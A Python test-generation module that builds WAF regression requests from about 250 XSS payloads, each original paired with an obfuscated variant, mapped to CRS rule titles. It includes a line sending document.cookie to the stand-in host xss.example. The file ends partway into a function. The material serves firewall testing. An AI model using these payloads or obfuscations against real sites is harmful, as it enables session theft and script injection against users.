"""Blind regression-suite examples for cross-site scripting only, written as the shortest payloads a rule must
still catch, with benign requests that carry the same words innocently.

The angle: for each XSS request-rule title of CRS 3.3.4 at paranoia levels 1 and 2 (and the two XSS titles that
CRS 4.x added), the atomic fragments that still carry the attack the title names (a lone tag with one handler, a
bare `javascript:` URI, a lone dangerous call, one string break-out), eight per title, each followed by the same
fragment with exactly one obfuscation (case, whitespace or a comment in place of a space, or an encoding a server
or browser decodes: percent-encoding, HTML entities, JavaScript or CSS escapes, UTF-7).

Family: xss. Sub-families, one per title (CRS 3.3.4 id in brackets):
  libinjection [941100], script-tag [941110], event-handler [941120], attribute-vector [941130],
  js-uri [941140], ns-html-injection [941160], ns-attribute-injection [941170], node-validator [941180],
  ie-style [941190], ie-vmlframe [941200], ie-js-entities [941210], ie-vbscript [941220], ie-embed [941230],
  ie-import [941240], ie-meta-http-equiv [941250], ie-meta-charset [941260], ie-link-href [941270],
  ie-base-href [941280], ie-applet [941290], ie-object [941300], usascii-malformed [941310], utf7 [941350],
  jsfuck [941360], js-global-var [941370], libinjection-pl2 [941101], disallowed-attrs [941150],
  html-tag-handler [941320], ie-string-break-location [941330], ie-string-break-property [941340],
  angular-csti [941380], and from CRS 4.x: js-method ("Javascript method detected") and js-no-parens
  ("XSS JavaScript function without parentheses").

Placements: every payload is sent twice.
  1. Into one of our real routes, rotating: query of /api/users, form of /admin/users/search (with csrf_token),
     JSON of /api/users, cookie, header:User-Agent, header:Referer, header:X-Api-Version, param-name (a query
     parameter's name), xml (an XML body to /api/users), multipart-field and multipart-filename (an upload to
     /api/users/42/avatar), path (a segment of /api/users/...). libinjection-pl2 goes to the path and the
     Referer only, where its title's rule looks.
  2. The way a WAF's regression suite sends it ("rs-" placements): to a path that is not our route (/,
     /index.php, /get, /post, /search, /api/v1/items) under an arbitrary parameter name (foo, var, x, test, id,
     arg1), as a query string, a form body, a JSON body or an XML body, or in the User-Agent, the Referer, a
     custom header (X-Custom) or a cookie.
  A payload with a line break never goes into a header or a file name (the next placement of the rotation takes
  it); in a file name a double quote is sent as %22, as browsers do.

Authorship and independence: written for this repository from general knowledge of XSS and from the rule titles
alone; no ruleset, rule regression test, public payload list or other blind set was read. Measured once on
unchanged code; the payloads were not changed after seeing the result. Deterministic (no clock, no randomness).
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import bio_request, chat_and_bio, links_and_prose, prose_request, slack_message
from .records import numbered, print_records

NAME = "fiftyeighth"


def pct(text: str) -> str:
    """Percent-encoding of a whole fragment (an encoding the server decodes once more)."""
    return urllib.parse.quote(text, safe="")


# (atomic fragment, the same fragment with one obfuscation), eight per title
PAIRS: dict[str, list[tuple[str, str]]] = {
    "libinjection": [
        ("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>"),
        ("<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>"),
        ("\"><svg onload=alert(1)>", "\"><svg\tonload=alert(1)>"),
        ("<body onload=alert(1)>", "<BODY ONLOAD=alert(1)>"),
        ("'><a href=javascript:alert(1)>x</a>", "'><a href=&#106;avascript:alert(1)>x</a>"),
        ("<iframe src=javascript:alert(1)>", "<iframe\nsrc=javascript:alert(1)>"),
        ("<input autofocus onfocus=alert(1)>", "%3Cinput autofocus onfocus=alert(1)%3E"),
        ("<x onclick=alert(1)>", "<x/**/onclick=alert(1)>"),
    ],
    "script-tag": [
        ("<script>", "<SCRIPT>"),
        ("<script src=//xss.example/a.js></script>", "<script\tsrc=//xss.example/a.js></script>"),
        ("<script>alert(1)", "<script\n>alert(1)"),
        ("</script><script>alert(1)//", "</script><sCrIpT>alert(1)//"),
        ("<script type=text/javascript>x()</script>", pct("<script type=text/javascript>x()</script>")),
        ("<script/x>alert(1)</script>", "<SCRIPT/x>alert(1)</SCRIPT>"),
        ("<svg><script>alert(1)</script>", "<svg><script>alert&#40;1&#41;</script>"),
        ("<script>document.domain</script>", "&lt;script&gt;document.domain&lt;/script&gt;"),
    ],
    "event-handler": [
        ("<x onload=alert(1)>", "<x ONLOAD=alert(1)>"),
        ("\" onmouseover=\"alert(1)", "\" onmouseover\t=\"alert(1)"),
        ("<a onclick=alert(1)>x</a>", "<a/onclick=alert(1)>x</a>"),
        ("' onfocus='alert(1)' autofocus='", "' OnFocus='alert(1)' autofocus='"),
        ("<div onpointerenter=alert(1)>", "<div\nonpointerenter=alert(1)>"),
        ("<body onpageshow=alert(1)>", pct("<body onpageshow=alert(1)>")),
        ("onerror=alert(1)", "onerror =alert(1)"),
        ("<video src=x onerror=alert(1)>", "<video src=x onerror=&#97;lert(1)>"),
    ],
    "attribute-vector": [
        ("<a xlink:href=\"javascript:alert(1)\">", "<a XLINK:HREF=\"javascript:alert(1)\">"),
        ("<button formaction=javascript:alert(1)>", "<button\tformaction=javascript:alert(1)>"),
        ("data:text/html,<script>alert(1)</script>", "DATA:TEXT/HTML,<script>alert(1)</script>"),
        ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
         "data:text/html;BASE64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        ("<style>@import 'http://xss.example/a.css';</style>", "<style>@IMPORT 'http://xss.example/a.css';</style>"),
        ("<!ENTITY xxe SYSTEM \"http://xss.example/x\">", "<!ENTITY  xxe  SYSTEM  \"http://xss.example/x\">"),
        ("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
         "<x:script XMLNS:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
        ("<object data=\"data:text/html,<script>alert(1)</script>\">",
         "<object data=\"data:text/html,%3Cscript%3Ealert(1)%3C/script%3E\">"),
    ],
    "js-uri": [
        ("javascript:alert(1)", "JaVaScRiPt:alert(1)"),
        ("vbscript:msgbox(1)", "VBScript:msgbox(1)"),
        ("<a href=\"javascript:void(0)\">", "<a href=\"java\tscript:void(0)\">"),
        ("<div style=\"background:url(javascript:alert(1))\">",
         "<div style=\"background:url( javascript:alert(1) )\">"),
        ("<img dynsrc=\"javascript:alert(1)\">", "<img dynsrc=\"javascript&colon;alert(1)\">"),
        ("<iframe src=\"javascript:alert(1)\">", "<iframe src=\"&#x6A;avascript:alert(1)\">"),
        ("livescript:alert(1)", "LIVESCRIPT:alert(1)"),
        ("<form action=javascript:alert(1)>", pct("<form action=javascript:alert(1)>")),
    ],
    "ns-html-injection": [
        ("<iframe src=//xss.example>", "<IFRAME SRC=//xss.example>"),
        ("<object data=//xss.example/x.swf>", "<object\ndata=//xss.example/x.swf>"),
        ("<embed src=//xss.example/x.swf>", "<embed/src=//xss.example/x.swf>"),
        ("<meta http-equiv=refresh content=\"0;url=//xss.example\">",
         "<META HTTP-EQUIV=refresh content=\"0;url=//xss.example\">"),
        ("<form action=//xss.example><input type=submit>", "<form\taction=//xss.example><input type=submit>"),
        ("<base href=//xss.example/>", pct("<base href=//xss.example/>")),
        ("<link rel=import href=//xss.example/x.html>", "<LINK rel=import href=//xss.example/x.html>"),
        ("<frameset onload=alert(1)>", "<FrameSet onload=alert(1)>"),
    ],
    "ns-attribute-injection": [
        ("\" onfocus=\"alert(1)\" autofocus=\"", "\"\tonfocus=\"alert(1)\" autofocus=\""),
        ("' style='x:expression(alert(1))", "' style='x:exp/**/ression(alert(1))"),
        ("\" src=x onerror=\"alert(1)", "\" src=x ONERROR=\"alert(1)"),
        ("\" formaction=\"javascript:alert(1)", "\" formaction=\"JAVASCRIPT:alert(1)"),
        ("\" href=\"javascript:alert(1)", "\" href=\"javascript&#58;alert(1)"),
        ("' onmouseover='alert(1)", "'/onmouseover='alert(1)"),
        ("\" style=\"background:url(javascript:alert(1))", pct("\" style=\"background:url(javascript:alert(1))")),
        ("\"><img src=x onerror=alert(1)>", "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"),
    ],
    "node-validator": [
        ("document.cookie", "document . cookie"),
        ("document.write('<b>')", "document\n.write('<b>')"),
        ("x.innerHTML='<img src=x>'", "x.inner\\u0048TML='<img src=x>'"),
        ("window.location='//xss.example'", "window\t.location='//xss.example'"),
        ("a.parentNode.removeChild(a)", "a./**/parentNode.removeChild(a)"),
        ("-moz-binding:url(//xss.example/x.xml#x)", "-MOZ-BINDING:url(//xss.example/x.xml#x)"),
        ("<!--<img src=x>-->", pct("<!--<img src=x>-->")),
        ("<![CDATA[<script>]]>", "<![cdata[<script>]]>"),
    ],
    "ie-style": [
        ("<style>@import'//xss.example/a.css'</style>", "<STYLE>@import'//xss.example/a.css'</STYLE>"),
        ("<style>body{background:url(//xss.example/a)}</style>",
         "<style>body{background:url\t(//xss.example/a)}</style>"),
        ("<style>*{x:expression(alert(1))}</style>", "<style>*{x:expr/**/ession(alert(1))}</style>"),
        ("<style>li{list-style-image:url(javascript:alert(1))}</style>",
         pct("<style>li{list-style-image:url(javascript:alert(1))}</style>")),
        ("<style>@import url(x.css)</style>", "<style>@\\69mport url(x.css)</style>"),
        ("<style type=text/css>a{behavior:url(x.htc)}</style>", "<style type=text/css>a{behavior :url(x.htc)}</style>"),
        ("<style>div{-moz-binding:url(x.xml#y)}</style>", "<style>\ndiv{-moz-binding:url(x.xml#y)}</style>"),
        ("<style>body{width:expression(alert(1))}</style>", "<style>body{width:\\65xpression(alert(1))}</style>"),
    ],
    "ie-vmlframe": [
        ("<v:vmlframe src=//xss.example/x.vml>", "<V:VMLFRAME SRC=//xss.example/x.vml>"),
        ("<vmlframe src=x.vml>", "<vmlframe\tsrc=x.vml>"),
        ("<v:vmlframe src=\"x.vml#xss\"></v:vmlframe>", "<v:vmlframe src\n=\"x.vml#xss\"></v:vmlframe>"),
        ("<x:vmlframe src=//xss.example/a>", pct("<x:vmlframe src=//xss.example/a>")),
        ("<v:rect><v:vmlframe src=x.vml>", "<v:rect><v:vmlframe/src=x.vml>"),
        ("<html xmlns:v=urn:schemas-microsoft-com:vml><v:vmlframe src=x>",
         "<html xmlns:v=urn:schemas-microsoft-com:vml><v:VmlFrame src=x>"),
        ("<v:vmlframe style=behavior:url(#default#VML) src=x>",
         "&lt;v:vmlframe style=behavior:url(#default#VML) src=x&gt;"),
        ("\"><v:vmlframe src=x>", "\"><v:vmlframe+src=x>"),
    ],
    "ie-js-entities": [
        ("&#106;avascript:alert(1)", "&#106avascript:alert(1)"),
        ("ja&#118;ascript:alert(1)", "ja&#0000118;ascript:alert(1)"),
        ("jav&#x61;script:alert(1)", "jav&#X61;script:alert(1)"),
        ("javas&#99;ript:alert(1)", "JAVAS&#99;RIPT:alert(1)"),
        ("javascript&#58;alert(1)", "javascript&#0058;alert(1)"),
        ("<a href=\"&#x6A;avascript:alert(1)\">", "<a href=\"&#x6A;ava\tscript:alert(1)\">"),
        ("java&#x09;script:alert(1)", "java&#9;script:alert(1)"),
        ("<iframe src=j&#x61;vascript:alert(1)>", pct("<iframe src=j&#x61;vascript:alert(1)>")),
    ],
    "ie-vbscript": [
        ("vbscript:msgbox(1)", "VbScRiPt:msgbox(1)"),
        ("&#118;bscript:msgbox(1)", "&#118bscript:msgbox(1)"),
        ("v&#98;script:msgbox(1)", "v&#x62;script:msgbox(1)"),
        ("vbs&#99;ript:msgbox(1)", "vbs&#0099;ript:msgbox(1)"),
        ("<a href=\"vbscript:msgbox(1)\">", "<a href=\"vb\tscript:msgbox(1)\">"),
        ("<img src=vbscript:msgbox(1)>", "<img src=\"  vbscript:msgbox(1)\">"),
        ("vbscript&#58;msgbox(1)", "vbscript&#x3a;msgbox(1)"),
        ("<iframe src=vbscript:execute(1)>", pct("<iframe src=vbscript:execute(1)>")),
    ],
    "ie-embed": [
        ("<embed src=//xss.example/x.swf>", "<EMBED SRC=//xss.example/x.swf>"),
        ("<embed type=image/svg+xml src=x.svg>", "<embed\ttype=image/svg+xml src=x.svg>"),
        ("<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
         "<embed/src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
        ("<embed src=javascript:alert(1)>", "<embed\nsrc=javascript:alert(1)>"),
        ("\"><embed src=x.swf allowscriptaccess=always>", "\"><Embed src=x.swf allowscriptaccess=always>"),
        ("<embed src=x.swf>", pct("<embed src=x.swf>")),
        ("<embed type=text/html src=//xss.example>", "<embed type = text/html src=//xss.example>"),
        ("<object><embed src=x.swf></object>", "<object><EMBED src=x.swf></object>"),
    ],
    "ie-import": [
        ("<?import namespace=\"t\" implementation=\"#default#time2\">",
         "<?IMPORT namespace=\"t\" implementation=\"#default#time2\">"),
        ("<import implementation=//xss.example/x.htc>", "<import\timplementation=//xss.example/x.htc>"),
        ("<?import implementation=x.htc>", "<?import/implementation=x.htc>"),
        ("<html><?import namespace=x implementation=x.htc><x:y>",
         "<html><?import namespace=x implementation = x.htc><x:y>"),
        ("<?import namespace=\"v\" implementation=\"#default#VML\" ?>",
         pct("<?import namespace=\"v\" implementation=\"#default#VML\" ?>")),
        ("<import namespace=t implementation=#default#time2>", "<IMPORT namespace=t IMPLEMENTATION=#default#time2>"),
        ("\"><?import implementation=x.htc>", "\"><?import\nimplementation=x.htc>"),
        ("<?import implementation=\"javascript:alert(1)\">", "&lt;?import implementation=\"javascript:alert(1)\"&gt;"),
    ],
    "ie-meta-http-equiv": [
        ("<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
         "<META HTTP-EQUIV=REFRESH content=0;url=javascript:alert(1)>"),
        ("<meta http-equiv=\"Set-Cookie\" content=\"sid=x\">", "<meta\thttp-equiv=\"Set-Cookie\" content=\"sid=x\">"),
        ("<meta http-equiv=content-type content=\"text/html;charset=utf-7\">",
         "<meta http-equiv=&#99;ontent-type content=\"text/html;charset=utf-7\">"),
        ("<meta http-equiv=refresh content=\"0;url=//xss.example\">",
         "<meta/http-equiv=refresh content=\"0;url=//xss.example\">"),
        ("<meta http-equiv='refresh' content='0'>", "<meta http-equiv = 'refresh' content='0'>"),
        ("\"><meta http-equiv=refresh content=0>", pct("\"><meta http-equiv=refresh content=0>")),
        ("<meta http-equiv=\"refresh\" content=\"0;data:text/html;base64,PHNjcmlwdD4=\">",
         "<meta http-equiv=\"re&#x66;resh\" content=\"0;data:text/html;base64,PHNjcmlwdD4=\">"),
        ("<meta http-equiv=set-cookie content=a=b>", "<meta\nhttp-equiv=set-cookie content=a=b>"),
    ],
    "ie-meta-charset": [
        ("<meta charset=utf-7>", "<META CHARSET=UTF-7>"),
        ("<meta charset=\"x-imap4-modified-utf7\">", "<meta\tcharset=\"x-imap4-modified-utf7\">"),
        ("<meta content=\"text/html;charset=utf-7\">", "<meta content=\"text/html;CHARSET=utf-7\">"),
        ("<meta charset=us-ascii>", "<meta/charset=us-ascii>"),
        ("\"><meta charset=utf-7>", "\"><meta charset = utf-7>"),
        ("<meta charset=iso-2022-jp>", pct("<meta charset=iso-2022-jp>")),
        ("<meta name=x charset=utf-16>", "<meta name=x\ncharset=utf-16>"),
        ("<meta charset='utf-7'>", "&lt;meta charset='utf-7'&gt;"),
    ],
    "ie-link-href": [
        ("<link rel=stylesheet href=//xss.example/a.css>", "<LINK REL=stylesheet HREF=//xss.example/a.css>"),
        ("<link href=javascript:alert(1)>", "<link\thref=javascript:alert(1)>"),
        ("<link rel=import href=//xss.example/x.html>", "<link/rel=import/href=//xss.example/x.html>"),
        ("<link rel=prefetch href=//xss.example/?c=x>", "<link rel=prefetch href = //xss.example/?c=x>"),
        ("\"><link rel=stylesheet href=data:,*{x:expression(alert(1))}>",
         "\"><Link rel=stylesheet href=data:,*{x:expression(alert(1))}>"),
        ("<link href=x.css>", pct("<link href=x.css>")),
        ("<link rel=preload href=//xss.example/a.js as=script>",
         "<link\nrel=preload href=//xss.example/a.js as=script>"),
        ("<link rel=icon href=//xss.example/f.ico>", "&lt;link rel=icon href=//xss.example/f.ico&gt;"),
    ],
    "ie-base-href": [
        ("<base href=//xss.example/>", "<BASE HREF=//xss.example/>"),
        ("<base href=\"javascript:/a/-alert(1)///////\">", "<base\thref=\"javascript:/a/-alert(1)///////\">"),
        ("<base target=_blank href=//xss.example/>", "<base/target=_blank/href=//xss.example/>"),
        ("\"><base href=//xss.example/>", pct("\"><base href=//xss.example/>")),
        ("<base href=http://xss.example/>", "<base href = http://xss.example/>"),
        ("<head><base href=//xss.example/x/></head>", "<head><Base href=//xss.example/x/></head>"),
        ("<base href='//xss.example'>", "<base\nhref='//xss.example'>"),
        ("<base href=data:,x>", "&lt;base href=data:,x&gt;"),
    ],
    "ie-applet": [
        ("<applet code=X.class>", "<APPLET code=X.class>"),
        ("<applet>", "<applet\t>"),
        ("<applet codebase=//xss.example/ code=X>", "<applet/codebase=//xss.example/ code=X>"),
        ("<applet archive=x.jar code=X></applet>", "<applet\narchive=x.jar code=X></applet>"),
        ("\"><applet code=javascript:alert(1)>", "\"><Applet code=javascript:alert(1)>"),
        ("<applet src=x>", pct("<applet src=x>")),
        ("<applet code=\"X\" width=1 height=1>", "&lt;applet code=\"X\" width=1 height=1&gt;"),
        ("<applet object=x.ser>", "<applet%09object=x.ser>"),
    ],
    "ie-object": [
        ("<object data=//xss.example/x.swf>", "<OBJECT DATA=//xss.example/x.swf>"),
        ("<object type=text/html data=//xss.example>", "<object\ttype=text/html data=//xss.example>"),
        ("<object classid=clsid:D27CDB6E-AE6D-11cf-96B8-444553540000>",
         "<object classid = clsid:D27CDB6E-AE6D-11cf-96B8-444553540000>"),
        ("<object codetype=application/x-shockwave-flash data=x.swf>",
         "<object/codetype=application/x-shockwave-flash data=x.swf>"),
        ("<object data=\"javascript:alert(1)\">", "<object\ndata=\"javascript:alert(1)\">"),
        ("<object code=X.class>", pct("<object code=X.class>")),
        ("\"><object data=data:text/html,<script>alert(1)</script>>",
         "\"><Object data=data:text/html,<script>alert(1)</script>>"),
        ("<object type=image/svg+xml data=x.svg></object>",
         "&lt;object type=image/svg+xml data=x.svg&gt;&lt;/object&gt;"),
    ],
    # US-ASCII with the high bit set: 0xBC reads as "<", 0xBE as ">", 0xA2 as '"' (sent as U+00BC, U+00BE, U+00A2)
    "usascii-malformed": [
        ("\u00bcscript\u00bealert(1)\u00bc/script\u00be", "%BCscript%BEalert(1)%BC/script%BE"),
        ("\u00bcimg src=x onerror=alert(1)\u00be", "\u00bcIMG SRC=x onerror=alert(1)\u00be"),
        ("<script>alert(1)\u00bc/script\u00be", "<script>alert(1)\u00bc / script\u00be"),
        ("\u00bc/script\u00be", "\u00bc/SCRIPT\u00be"),
        ("\u00a2\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be", "%A2%BE%BCscript%BEalert(1)%BC/script%BE"),
        ("\u00bcsvg onload=alert(1)\u00be", "\u00bcsvg\tonload=alert(1)\u00be"),
        ("\u00bciframe src=javascript:alert(1)\u00be", "\u00bciframe/src=javascript:alert(1)\u00be"),
        ("x\u00bc/title\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
         "x\u00bc/TITLE\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be"),
    ],
    "utf7": [
        ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ADw-SCRIPT+AD4-alert(1)+ADw-/SCRIPT+AD4-"),
        ("+ADw-img src=x onerror=alert(1)+AD4-", "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-"),
        ("+ACIAPgA8-script+AD4-alert(1)", "+ACIAPgA8-script+AD4-alert+ACg-1+ACk-"),
        ("+ADw-svg onload=alert(1)+AD4-", "+ADw-svg+ACA-onload=alert(1)+AD4-"),
        ("+ADw-/title+AD4APA-script+AD4-", "+ADw-/TITLE+AD4APA-script+AD4-"),
        ("+ADwAcwBjAHIAaQBwAHQAPg-", "%2BADwAcwBjAHIAaQBwAHQAPg-"),
        ("+ACI- onmouseover+AD0AIg-alert(1)", "+ACI-\tonmouseover+AD0AIg-alert(1)"),
        ("+ADw-iframe src+AD0-javascript:alert(1)+AD4-", "+ADw-iframe/src+AD0-javascript:alert(1)+AD4-"),
    ],
    "jsfuck": [
        ("(![]+[])[+[]]", "( ![] + [] ) [ +[] ]"),
        ("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "[][(![]+[])[+[]]\n+(![]+[])[!+[]+!+[]]]"),
        ("(!![]+[])[+!+[]]", "(!![]+[])[\t+!+[]]"),
        ("[+!+[]]+[+[]]", "[+!+[]]+/**/[+[]]"),
        ("([][[]]+[])[+!+[]]", "( [][[]] + [] ) [ +!+[] ]"),
        ("(+{}+[])[+!![]]", "(+{}+[])\t[+!![]]"),
        ("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]]",
         pct("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]]")),
        ("(![]+[])[!+[]+!+[]+!+[]]", "(![]+[])[ !+[] + !+[] + !+[] ]"),
    ],
    "js-global-var": [
        ("window[\"alert\"](1)", "window /**/ [\"alert\"](1)"),
        ("self['al'+'ert'](1)", "self\n['al'+'ert'](1)"),
        ("this[\"eval\"](\"alert(1)\")", "this\t[\"eval\"](\"alert(1)\")"),
        ("top['document']['cookie']", "top/*x*/['document']['cookie']"),
        ("parent[\"location\"]=\"//xss.example\"", "parent [\"location\"]=\"//xss.example\""),
        ("globalThis['eval']('1')", pct("globalThis['eval']('1')")),
        ("document['write']('<b>')", "document\n['write']('<b>')"),
        ("window[atob('YWxlcnQ=')](1)", "\\u0077indow[atob('YWxlcnQ=')](1)"),
    ],
    "libinjection-pl2": [
        ("<svg onload=alert(1)>", "<SVG ONLOAD=alert(1)>"),
        ("\"><script>alert(1)</script>", "\"><script >alert(1)</script>"),
        ("<img src onerror=alert(1)>", "<img src\tonerror=alert(1)>"),
        ("<details open ontoggle=alert(1)>", "<details/open/ontoggle=alert(1)>"),
        ("<a href=javascript:alert(1)>", "<a href=JAVASCRIPT:alert(1)>"),
        ("<math><a xlink:href=javascript:alert(1)>", "<MATH><A XLINK:HREF=javascript:alert(1)>"),
        ("'><iframe onload=alert(1)>", pct("'><iframe onload=alert(1)>")),
        ("<marquee onstart=alert(1)>", "<marquee/**/onstart=alert(1)>"),
    ],
    "disallowed-attrs": [
        ("<b style=\"position:fixed;top:0\">", "<b STYLE=\"position:fixed;top:0\">"),
        ("<img src=//xss.example/p.gif>", "<img\tsrc=//xss.example/p.gif>"),
        ("<a href=//xss.example>login</a>", "<a/href=//xss.example>login</a>"),
        ("<td background=//xss.example/a.gif>", "<td BACKGROUND=//xss.example/a.gif>"),
        ("<img lowsrc=//xss.example/a.gif>", "<img lowsrc = //xss.example/a.gif>"),
        ("<img dynsrc=//xss.example/a.avi>", "<img\ndynsrc=//xss.example/a.avi>"),
        ("<div style=\"background-image:url(//xss.example/a)\">",
         pct("<div style=\"background-image:url(//xss.example/a)\">")),
        ("<p dir=rtl style=color:red>", "&lt;p dir=rtl style=color:red&gt;"),
    ],
    "html-tag-handler": [
        ("<marquee>x</marquee>", "<MARQUEE>x</MARQUEE>"),
        ("<blink>x</blink>", "<blink\t>x</blink>"),
        ("<xmp>x</xmp>", "<XmP>x</XmP>"),
        ("<plaintext>", pct("<plaintext>")),
        ("<bgsound src=//xss.example/a.wav>", "<bgsound/src=//xss.example/a.wav>"),
        ("<layer src=//xss.example/x>", "<layer\nsrc=//xss.example/x>"),
        ("<isindex action=//xss.example>", "<ISINDEX action=//xss.example>"),
        ("<textarea autofocus>", "&lt;textarea autofocus&gt;"),
    ],
    "ie-string-break-location": [
        ("\";location='//xss.example';\"", "\";\\u006Cocation='//xss.example';\""),
        ("'-(location='javascript:alert(1)')-'", "'-(location ='javascript:alert(1)')-'"),
        ("\";name='alert(1)';//", "\";\\u006Eame='alert(1)';//"),
        ("\"+onerror=alert;throw 1;//", "\"+onerror\t=alert;throw 1;//"),
        ("';valueOf=alert;//", "';\\u0076alueOf=alert;//"),
        ("\"; document.location='//xss.example';//", "\"; document./**/location='//xss.example';//"),
        ("');top.location='//xss.example';('", "');top.location%3D'//xss.example';('"),
        ("\"};location=name;//", "\"};location=/**/name;//"),
    ],
    "ie-string-break-property": [
        ("\";document.domain='xss.example';//", "\";document.domain ='xss.example';//"),
        ("'+window.x=1+'", "'+window/**/.x=1+'"),
        ("\";a.b=c;//", "\";a\n.b=c;//"),
        ("');document.body.innerHTML='x';('", "');document.body.innerHTML%3D'x';('"),
        ("\"-(top.opener.location=1)-\"", "\"-(top.opener.location\t=1)-\""),
        ("';x.src='//xss.example/?'+document.cookie;//", "';x.src = '//xss.example/?'+document.cookie;//"),
        ("\" in x.y=1//", "\"  in x.y=1//"),
        ("';Object.prototype.x=1;//", "';Object.prototype\t.x=1;//"),
    ],
    "angular-csti": [
        ("{{constructor.constructor('alert(1)')()}}", "{{ constructor.constructor( 'alert(1)' )() }}"),
        ("{{$on.constructor('alert(1)')()}}", "{{$on.constructor\n('alert(1)')()}}"),
        ("{{7*7}}", "%7B%7B7*7%7D%7D"),
        ("{{'a'.constructor.prototype.charAt=[].join}}", "{{'a'.constructor.prototype.charAt = [].join}}"),
        ("{{$eval.constructor('alert(1)')()}}", "&#123;&#123;$eval.constructor('alert(1)')()&#125;&#125;"),
        ("{{toString.constructor.prototype.toString=toString.constructor.prototype.call}}",
         "{{toString.constructor.prototype.toString =toString.constructor.prototype.call}}"),
        ("{{[].pop.constructor('alert(1)')()}}", "{{[].pop.constructor\t('alert(1)')()}}"),
        ("{{x=valueOf.name.constructor.fromCharCode}}", "{{ x = valueOf.name.constructor.fromCharCode }}"),
    ],
    "js-method": [
        ("alert(1)", "alert\t(1)"),
        ("prompt(1)", "prompt/**/(1)"),
        ("confirm(1)", "\\u0063onfirm(1)"),
        ("eval('x')", "eval\n('x')"),
        ("setTimeout('alert(1)')", "setTimeout ('alert(1)')"),
        ("setInterval('alert(1)',9)", "set\\u0049nterval('alert(1)',9)"),
        ("atob('YWxlcnQoMSk=')", "atob%28'YWxlcnQoMSk='%29"),
        ("String.fromCharCode(97,108,101,114,116)", "String.fromCharCode (97,108,101,114,116)"),
    ],
    "js-no-parens": [
        ("alert`1`", "alert `1`"),
        ("onerror=alert;throw 1", "onerror=alert;throw/**/1"),
        ("[1].find(alert)", "[1].find(\\u0061lert)"),
        ("setTimeout`alert\\x281\\x29`", "setTimeout\t`alert\\x281\\x29`"),
        ("throw onerror=eval,'=alert\\x281\\x29'", "throw\tonerror=eval,'=alert\\x281\\x29'"),
        ("prompt`1`", "prompt%601%60"),
        ("confirm`1`", "\\u0063onfirm`1`"),
        ("{onerror=alert}throw 1", "{onerror=alert}\nthrow 1"),
    ],
}

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS_MODES = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-header:User-Agent", "rs-header:Referer",
            "rs-header:X-Custom", "rs-cookie"]
# a title whose rule looks at other places than the rest: where its payloads go instead of the full rotation
ONLY = {"libinjection-pl2": (["path", "header:Referer"], ["rs-header:Referer", "rs-query"])}
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
FIELDS = ["q", "name", "bio", "search", "title", "comment"]
BOUNDARY = "----fiftyeighthFormBoundary7MA4YWxk"


def _lines(text: str) -> bool:
    return any(c in text for c in "\r\n\x00")


def _fits(place: str, payload: str) -> bool:
    """Whether a placement can carry the payload (no line break in a header or a file name)."""
    return not (("header:" in place or place == "multipart-filename") and _lines(payload))


def _with_header(req: dict[str, Any], name: str, value: str) -> dict[str, Any]:
    return {**req, "headers": {**req["headers"], name: value}}


def _xml_body(element: str, payload: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><root><{element}>{escape(payload)}</{element}></root>'


def _multipart(disposition: str, content: str, ctype: str = "") -> dict[str, Any]:
    part = f"--{BOUNDARY}\r\nContent-Disposition: form-data; {disposition}\r\n"
    if ctype:
        part += f"Content-Type: {ctype}\r\n"
    body = f"{part}\r\n{content}\r\n--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": "/api/users/42/avatar", "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def real_place(place: str, k: int, payload: str) -> dict[str, Any]:
    """The payload in one of our routes."""
    field = FIELDS[k % len(FIELDS)]
    page = _get("/api/users?page=1")
    if place == "query":
        return _get(_query("/api/users", [(field, payload), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (field, payload)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", field: payload})
    if place == "cookie":
        return _with_header(page, "Cookie", "session=abc123; prefs=" + pct(payload))
    if place.startswith("header:"):
        return _with_header(page, place.split(":", 1)[1], payload)
    if place == "param-name":
        return _get(f"/api/users?{pct(payload)}=1&page=1")
    if place == "xml":
        return {"method": "POST", "uri": "/api/users", "body": _xml_body("name", payload),
                "headers": {"User-Agent": UA, "Accept": "application/json", "Content-Type": "application/xml"}}
    if place == "multipart-field":
        return _multipart(f'name="{field}"', payload)
    if place == "multipart-filename":
        return _multipart(f'name="avatar"; filename="{payload.replace(chr(34), "%22")}"', "PNG-bytes", "image/png")
    return _get("/api/users/" + pct(payload))


def rs_place(mode: str, k: int, payload: str) -> dict[str, Any]:
    """The payload as a WAF regression suite sends it: a path that is not our route, an arbitrary name."""
    path = RS_PATHS[k % len(RS_PATHS)]
